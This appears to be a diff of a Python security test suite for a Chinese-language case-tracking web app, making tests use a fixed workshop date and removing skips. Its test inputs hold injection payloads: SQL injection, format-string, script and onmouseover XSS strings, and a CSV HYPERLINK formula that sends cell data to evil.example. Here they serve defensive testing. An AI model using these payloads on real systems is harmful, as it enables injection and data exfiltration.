@@ -18,7 +18,7 @@ import sqlite3
 import uuid
 from collections.abc import Iterator
 from concurrent.futures import ThreadPoolExecutor
-from datetime import date, timedelta
+from datetime import timedelta
 from pathlib import Path
 from typing import Any
 
@@ -33,6 +33,7 @@ from tests.conftest import (
     form_token,
     start_server,
     stop_server,
+    workshop_today,
 )
 
 PASSWORD = "password123"
@@ -308,7 +309,7 @@ def test_ten_megabyte_bodies_get_413(server: LiveServer, web: httpx.Client) -> N
 def test_missing_forged_stale_and_future_form_tokens(server: LiveServer, web: httpx.Client) -> None:
     good = form_token(web.get("/").text)
     day, nonce, sig = good.split(".")
-    today = date.today()
+    today = workshop_today()
     bad_tokens = [
         "", "x", "..", good + "x", f"{day}.{nonce}.{'0' * 32}", f"{day}.{nonce}x.{sig}",
         tokens.issue(SECRET, today - timedelta(days=10)),  # genuine but stale
@@ -415,22 +416,28 @@ def test_multipart_submission_is_refused(server: LiveServer, web: httpx.Client) 
 
 # ---- receipts and teams ----------------------------------------------------------------------
 
+RECEIPT_MESSAGES = ("请输入回执码", "回执码是 16 位", "回执码只含数字和字母",
+                    "没有找到与这个回执码对应的记录")
+
+
 @pytest.mark.parametrize("typed", [
     "", " ", "----", "0000-0000-0000-000", "0000-0000-0000-00000", "U" * 16, "A" * 64,
     "A" * 65, "A" * 10000, "\x00" * 16, "💥" * 16, "' OR '1'='1", "%s%s%s%n",
     "<script>alert(1)</script>", "ＡＢＣＤ－ＥＦＧＨ－ＪＫＭＮ－ＰＱＲＳ",
 ])
-def test_malformed_receipts_get_one_neutral_message(server: LiveServer, web: httpx.Client,
-                                                    typed: str) -> None:
+def test_malformed_receipts_say_what_is_wrong(server: LiveServer, web: httpx.Client,
+                                              typed: str) -> None:
     r = track_page(web, typed)
-    refused(r, 422, "没有找到与这个回执码对应的记录")
+    refused(r, 422)
+    assert sum(m in r.text for m in RECEIPT_MESSAGES) == 1, r.text[:2000]
     assert "<script>alert(1)" not in r.text
     token = form_token(web.get("/track").text)
     with nothing_stored(server):
         for action in ("followup", "rate"):
             r = web.post(f"/track/{action}", data={"token": token, "receipt": typed,
                                                     "body": "补充", "rating": "satisfied"})
-            refused(r, 422, "没有找到")
+            refused(r, 422)
+            assert sum(m in r.text for m in RECEIPT_MESSAGES) == 1
 
 
 def test_track_actions_with_bad_fields(server: LiveServer, web: httpx.Client) -> None:
@@ -487,18 +494,17 @@ def test_html_payloads_are_escaped_everywhere(server: LiveServer, web: httpx.Cli
         assert lead.post(act, data={"csrf": csrf, "action": "reply",
                                     "body": "答复 " + PAYLOAD}).status_code == 303
         _assert_escaped(track_page(web, receipt))
-        if web.get("/board").status_code == 200:
-            r = lead.post(act, data={"csrf": csrf, "action": "publish", "show_reply": "1",
-                                     "summary": "摘要 " + PAYLOAD, "body": "摘要 " + PAYLOAD})
-            assert r.status_code == 303, r.text[:1000]
-            _assert_escaped(web.get("/board"))
-            board_item = web.get(f"/board/{case_id}")
-            if board_item.status_code == 200:
-                _assert_escaped(board_item)
-        month = date.today().strftime("%Y-%m")
+        r = lead.post(act, data={"csrf": csrf, "action": "publish", "show_reply": "1",
+                                 "summary": "摘要 " + PAYLOAD, "body": "摘要 " + PAYLOAD})
+        assert r.status_code == 303, r.text[:1000]
+        _assert_escaped(web.get("/board"))
+        board_item = web.get(f"/board/{case_id}")
+        assert board_item.status_code == 200
+        _assert_escaped(board_item)
+        month = workshop_today().strftime("%Y-%m")
         report = lead.get(f"/staff/reports/{month}")
-        if report.status_code == 200:
-            assert "<script>alert(" not in report.text
+        assert report.status_code == 200
+        assert "<script>alert(" not in report.text
         # The team name from the admin is escaped on the public page.
         team_page = web.get("/?t=xss")
         assert "<b onmouseover" not in team_page.text and "&lt;b onmouseover" in team_page.text
@@ -513,11 +519,9 @@ def test_csv_cells_cannot_become_formulas(server: LiveServer, web: httpx.Client)
     body = '=HYPERLINK("http://evil.example/?x="&A1,"点这里查看详情")'
     submit_ok(web, body)
     case_id = case_id_of(server, body)
-    month = date.today().strftime("%Y-%m")
+    month = workshop_today().strftime("%Y-%m")
     lead, csrf = staff(server)
     try:
-        if lead.get(f"/staff/reports/{month}/cases.csv").status_code == 404:
-            pytest.skip("no CSV export yet")
         lead_id = query(server, "SELECT id FROM staff_user WHERE username = 'lead'")[0][0]
         act = f"/staff/cases/{case_id}/act"
         for data in ({"action": "accept", "assignee": str(lead_id)},
@@ -584,7 +588,7 @@ def test_staff_action_bad_fields(server: LiveServer, web: httpx.Client) -> None:
     submit_ok(web, body)
     case_id = case_id_of(server, body)
     lead, csrf = staff(server)
-    yesterday = (date.today() - timedelta(days=1)).isoformat()
+    yesterday = (workshop_today() - timedelta(days=1)).isoformat()
     cases = [
         ({"action": "accept", "assignee": "abc"}, "请选择承办人"),
         ({"action": "accept", "assignee": "99999999999999999999"}, "请选择承办人"),
@@ -613,7 +617,7 @@ def test_staff_action_bad_fields(server: LiveServer, web: httpx.Client) -> None:
             refused(r, 400)
             for params in ({"category": "99999999999999999999"}, {"team": "abc"},
                            {"assignee": "-1"}, {"overdue": "yes"}, {"q": "x" * 5000},
-                           {"after": f"{date.today()}_{uuid.uuid4()}"}):
+                           {"after": f"{workshop_today()}_{uuid.uuid4()}"}):
                 assert lead.get("/staff/cases", params=params).status_code == 200
             refused(lead.get(f"/staff/cases/{case_id}x"), 404)
             refused(lead.post(f"/staff/cases/{uuid.uuid4()}/act",
